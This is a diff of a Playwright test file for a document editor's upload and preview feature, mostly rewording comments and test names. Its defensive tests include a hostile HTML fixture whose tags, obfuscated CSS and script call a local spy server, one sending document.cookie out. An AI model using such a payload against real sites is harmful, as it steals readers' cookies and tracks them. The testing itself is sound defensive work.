@@ -1,4 +1,4 @@
-/** The file of a document: uploaded or grabbed in its form, and read beside it and beside the form of a fact, by pointer and by keyboard. */
+/** The file of a document: uploaded or grabbed in its form, and read beside that form and beside the form of a fact, by mouse and by keyboard. */
 import { randomUUID } from 'node:crypto';
 import { once } from 'node:events';
 import { createServer } from 'node:net';
@@ -9,13 +9,13 @@ const words = `<!doctype html><title>Snapshot</title><h1>2,310 people displaced<
 
 async function open(page: Page, id: number): Promise<void> {
   await page.goto(`/documents/${id}`);
-  // A screen that is fetched for the first time may take its time.
+  // The first load of a screen may be slow.
   await expect(page.getByRole('heading', { name: /^Edit D-/ })).toBeVisible({ timeout: 45_000 });
 }
 
 const previewOf = (page: Page) => page.getByRole('complementary', { name: 'Preview of the document' });
 
-/** A document of its own for this journey. Returns its id. */
+/** Creates a document for this journey. Returns its id. */
 async function newDocument(page: Page, name: string): Promise<number> {
   const publisher = await post(page, 'publishers', {
     name: `Office of ${name} ${randomUUID()}`,
@@ -50,7 +50,7 @@ test('a file is uploaded in the form of a document and read beside it and beside
   await expect(page.locator('.file-failed').getByText('The file has failed to be created')).toBeInViewport();
   await expect(page.locator('.notice').getByText('The file has failed to be created')).toBeVisible();
   await expect(page.getByText('127.0.0.1 does not lead to a public site and is not fetched')).toBeVisible();
-  // What was there before stands, and is saved.
+  // Values typed before the upload stay, and are saved.
   await page.getByRole('button', { name: 'Update' }).click();
   await expect(page.getByText('Document has been created/updated')).toBeVisible();
   await expect(field.getByText('The file is kept with the document')).toHaveCount(0);
@@ -91,7 +91,7 @@ test('a file is uploaded in the form of a document and read beside it and beside
   await expect(divider).toHaveAttribute('aria-valuenow', '73');
 });
 
-/** What a file would betray its reader with: `spy` hears each connection, whether anything is asked on it or not. */
+/** A page that tries to contact `spy`, which notices every connection, even without a request. */
 const hostile = (spy: string) => `<head><meta http-equiv="refresh" content="0;url=${spy}/refresh">
 <link rel="preconnect" href="${spy}"><link rel="stylesheet" href="${spy}/sheet"><link rel="prefetch" href="${spy}/next"><base href="${spy}/">
 <style>@import "${spy}/import"; body { background: u\\72l(${spy}/background) }</style></head>
@@ -99,7 +99,7 @@ const hostile = (spy: string) => `<head><meta http-equiv="refresh" content="0;ur
 <iframe src="${spy}/frame"></iframe><video src="${spy}/film" autoplay></video><svg><image href="${spy}/svg"/></svg>
 <script>document.title = 'acted'; fetch('${spy}/script?' + document.cookie + localStorage.length)</script></body>`;
 
-test('no file of any kind acts on our site, asks for anything or learns who reads it', async ({ page, context }) => {
+test('no kind of file can run on our site, make requests or identify its reader', async ({ page, context }) => {
   await enter(page, 'expert');
   await page.goto('/change_password');
   let heard = 0;
@@ -164,11 +164,11 @@ test('no file of any kind acts on our site, asks for anything or learns who read
   for (const [name, content] of saved) {
     const address = await upload(name, content);
     const download = page.waitForEvent('download');
-    // The page that asked stays what it was.
+    // The requesting page is unchanged.
     await page.evaluate((to) => void (window.location.href = to), address);
     expect((await download).suggestedFilename()).toMatch(name.split('.')[0] ?? '');
   }
-  // No script of ours either can run what was uploaded as one.
+  // Our own pages cannot run an uploaded file as a script either.
   const script = await upload('code.js', `document.title = 'acted'`);
   const outcome = await page.evaluate(
     (src) =>
@@ -183,13 +183,13 @@ test('no file of any kind acts on our site, asks for anything or learns who read
   );
   expect([outcome, await page.title()]).toEqual(['refused', expect.not.stringContaining('acted')]);
   expect(heard).toBe(0);
-  // It would have been heard.
+  // Proves that `spy` notices a connection.
   await other.goto(`${spy}/`);
   expect(heard).toBeGreaterThan(0);
   server.close();
 });
 
-test('an upload that fails is tried again, one on its way is waited for or cancelled, and the form keeps everything', async ({
+test('a failed upload can be repeated, a running one can finish or be cancelled, and the form keeps its values', async ({
   page,
 }) => {
   await enter(page, 'expert');
@@ -221,7 +221,7 @@ test('an upload that fails is tried again, one on its way is waited for or cance
   await expect(page.getByText(`${csv.name} has been uploaded successfully`)).toBeVisible();
   await expect(previewOf(page).getByRole('cell', { name: 'اليمن' })).toBeVisible();
 
-  // The next one does not arrive until it is cancelled.
+  // The next upload hangs until it is cancelled.
   await page.route('**/upload/file', () => undefined, { times: 1 });
   await field.getByLabel('Choose a file').setInputFiles({ ...csv, name: 'slow.csv' });
   await expect(field.getByRole('progressbar', { name: 'Progress of slow.csv' })).toBeVisible();
